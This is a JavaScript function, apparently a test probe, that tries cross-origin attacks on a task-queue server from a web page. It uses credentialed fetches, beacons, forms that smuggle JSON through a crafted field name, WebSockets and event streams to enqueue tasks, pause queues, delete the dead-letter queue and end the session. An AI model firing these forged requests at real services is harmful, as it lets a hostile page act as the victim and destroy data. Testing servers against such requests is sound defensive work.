// Everything that a page can try on a server at another origin. Answers what it got to see.
async (target) => {
  const seen = {};
  const task = JSON.stringify({ task_type: "intruder", parameters: {} });
  const spec = JSON.stringify({ type: "intruder", payload: {} });
  const json = { "content-type": "application/json" };
  const text = { "content-type": "text/plain" };

  const within = (promise) =>
    Promise.race([promise, new Promise((done) => setTimeout(done, 3000, null))]);

  const attempt = async (name, act) => {
    try {
      const found = await within(act());
      if (found) seen[name] = String(found).slice(0, 200);
    } catch {
      // not let in
    }
  };

  const read = async (path, options = {}) => {
    const answer = await fetch(target + path, options);
    return answer.type === "opaque" ? null : `${answer.status} ${await answer.text()}`;
  };

  for (const credentials of ["omit", "include"]) {
    for (const path of ["/api/v1/tasks", "/api/tasks", "/api/v1/audit", "/openapi.json"]) {
      await attempt(`GET ${path} ${credentials}`, () => read(path, { credentials }));
      await attempt(`GET ${path} ${credentials}, no-cors`, () =>
        read(path, { credentials, mode: "no-cors" }));
    }
    for (const headers of [json, text, {}]) {
      for (const mode of ["cors", "no-cors"]) {
        for (const [path, body] of [
          ["/api/v1/tasks", task],
          ["/api/tasks", spec],
          ["/api/v1/queues/default/pause", undefined],
          ["/api/tasks/pause", undefined],
          ["/api/v1/dlq/replay", '{"all": true}'],
          ["/internal/workers/register", "{}"],
        ]) {
          const options = { method: "POST", headers, body, mode, credentials };
          await attempt(`POST ${path} ${JSON.stringify(options)}`, () => read(path, options));
        }
      }
    }
    await attempt(`DELETE ${credentials}`, () =>
      read("/api/v1/dlq?all=true", { method: "DELETE", credentials }));
    await attempt(`PATCH ${credentials}`, () =>
      read("/api/v1/types/work", {
        method: "PATCH", headers: json, body: '{"paused": true}', credentials,
      }));
  }

  await attempt("beacon", async () => {
    navigator.sendBeacon(`${target}/api/v1/queues/default/pause`);
    navigator.sendBeacon(`${target}/api/v1/tasks`, new Blob([task], { type: "text/plain" }));
  });

  const loaded = (tag, attributes) =>
    new Promise((done) => {
      const element = Object.assign(document.createElement(tag), attributes);
      element.onload = () => done(element);
      element.onerror = () => done(null);
      document.body.append(element);
    });

  await attempt("image", async () => (await loaded("img", { src: `${target}/docs` })) && "loaded");
  await attempt("script", async () =>
    (await loaded("script", { src: `${target}/api/v1/tasks` })) && "loaded");
  await attempt("style", async () =>
    (await loaded("link", { rel: "stylesheet", href: `${target}/docs` })) && "loaded");
  await attempt("frame", async () => {
    const frame = await loaded("iframe", { src: `${target}/docs` });
    return frame?.contentDocument?.body?.innerText;
  });

  for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    for (const path of ["/api/v1/tasks", "/api/v1/queues/default/pause", "/auth/session"]) {
      await attempt(`form ${path}`, async () => {
        const frame = document.createElement("iframe");
        frame.name = `frame${Math.random()}`;
        document.body.append(frame);
        const form = Object.assign(document.createElement("form"), {
          action: target + path, method: "POST", enctype, target: frame.name,
        });
        const field = document.createElement("input");
        field.name = '{"task_type": "intruder", "parameters": {}, "tags": {"x": "';
        field.value = '"}}';
        form.append(field);
        document.body.append(form);
        const sent = new Promise((done) => { frame.onload = done; });
        form.submit();
        await sent;
        return frame.contentDocument?.body?.innerText;
      });
    }
  }

  for (const path of ["/ws", "/api/v1/events", "/api/v1/tasks"]) {
    await attempt(`WebSocket ${path}`, () =>
      new Promise((done) => {
        const socket = new WebSocket(target.replace("http", "ws") + path);
        socket.onopen = () => done("open");
        socket.onerror = () => done(null);
      }));
    await attempt(`events ${path}`, () =>
      new Promise((done) => {
        const source = new EventSource(target + path, { withCredentials: true });
        source.onopen = () => done("open");
        source.onerror = () => { source.close(); done(null); };
      }));
  }
  await attempt("sign out", () =>
    read("/auth/session", { method: "DELETE", credentials: "include" }));
  return seen;
}
